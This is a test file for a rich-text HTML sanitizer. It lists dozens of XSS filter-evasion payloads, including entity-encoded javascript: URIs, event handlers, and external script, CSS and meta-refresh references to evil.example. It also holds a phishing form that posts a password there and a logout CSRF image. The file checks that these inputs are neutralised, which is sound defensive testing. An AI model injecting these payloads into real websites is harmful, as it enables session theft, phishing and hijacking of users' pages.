import { describe, expect, it } from 'vitest';
import { sanitizeRichText } from './rich-text';

/** OWASP XSS filter evasion cheat sheet style payloads, and the takeovers of a whole page. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
  '<img src="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#14;  javascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<style>body{display:none}</style>',
  '<STYLE>@import "https://evil.example/x.css";</STYLE>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;inset:0;z-index:9999">cover</p>',
  '<p class="fixed inset-0">cover</p>',
  '<p onclick="alert(1)" onmouseover="alert(1)">x</p>',
  '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<p><b><i>unclosed <script>alert(1)',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p>a</p><!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<a href="https://ok.example/" onclick="alert(1)" target="_top">x</a>',
  '<img src="/static/a.png" onerror="alert(1)" style="width:100%">',
  '<img src="/api/customer/logout">',
  '<img src="/static/../api/customer/logout">',
];

/** What a browser could run or be taken over by, if any of it survived. */
const DANGEROUS =
  /<\s*(script|iframe|frame|style|meta|link|base|form|input|button|object|embed|svg|math|body|details|video|source)\b|\son[a-z]+\s*=|javascript:|vbscript:|data:|\sstyle\s*=|\sclass\s*=|\ssrcdoc|href="\/\/|target="_top"/i;

describe('sanitizeRichText', () => {
  it.each(HOSTILE)('neutralises %s', (payload) => {
    const clean = sanitizeRichText(payload);
    expect(clean).not.toMatch(DANGEROUS);
    expect(sanitizeRichText(clean)).toBe(clean);
  });

  it('keeps the structure and emphasis editors use', () => {
    const html =
      '<h2>Title</h2><p>Made <strong>well</strong>, <em>light</em>, <b>b</b> <i>i</i> <u>u</u> <s>s</s> <span>x</span>.</p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>q</blockquote><br /><hr />' +
      '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>';
    expect(sanitizeRichText(html)).toBe(html);
  });

  it('drops the inside of script, style and iframe, keeps the text of unknown tags', () => {
    expect(sanitizeRichText('<p>a<script>evil()</script>b</p>')).toBe('<p>ab</p>');
    expect(sanitizeRichText('<style>p{}</style><p>a</p>')).toBe('<p>a</p>');
    expect(sanitizeRichText('<iframe>fallback</iframe><p>a</p>')).toBe('<p>a</p>');
    expect(sanitizeRichText('<div><p>a</p></div><center>b</center>')).toBe('<p>a</p>b');
  });

  it('links: http(s), mailto or a site path; rel added; target only _blank', () => {
    expect(
      sanitizeRichText('<a href="https://example.com/x?a=1&amp;b=2" target="_blank">x</a>'),
    ).toBe(
      '<a href="https://example.com/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(sanitizeRichText('<a href="mailto:help@example.com" rel="opener">m</a>')).toBe(
      '<a href="mailto:help@example.com" rel="noopener noreferrer nofollow">m</a>',
    );
    expect(sanitizeRichText('<a href="/pages/help" target="_self">h</a>')).toBe(
      '<a href="/pages/help" rel="noopener noreferrer nofollow">h</a>',
    );
    expect(sanitizeRichText('<a href="ftp://example.com/">f</a>')).toBe(
      '<a rel="noopener noreferrer nofollow">f</a>',
    );
  });

  it('images: http(s) or /static sources with alt and numeric sizes; others are dropped', () => {
    expect(
      sanitizeRichText(
        '<img src="/static/p/1.png" alt="Kettle" width="300" height="200" title="t">',
      ),
    ).toBe('<img src="/static/p/1.png" alt="Kettle" width="300" height="200" />');
    expect(sanitizeRichText('<img src="https://cdn.example/a.jpg" width="100px">')).toBe(
      '<img src="https://cdn.example/a.jpg" />',
    );
    expect(sanitizeRichText('<p>a<img src="/uploads/a.png">b</p>')).toBe('<p>ab</p>');
    expect(sanitizeRichText('<p>a<img>b</p>')).toBe('<p>ab</p>');
  });

  it('keeps text and escapes what would be markup', () => {
    expect(sanitizeRichText('')).toBe('');
    expect(sanitizeRichText('plain 3 < 4 & 5 > 2')).toBe('plain 3 &lt; 4 &amp; 5 &gt; 2');
    expect(sanitizeRichText('<p>中文 &amp; ภาษาไทย</p>')).toBe('<p>中文 &amp; ภาษาไทย</p>');
  });
});
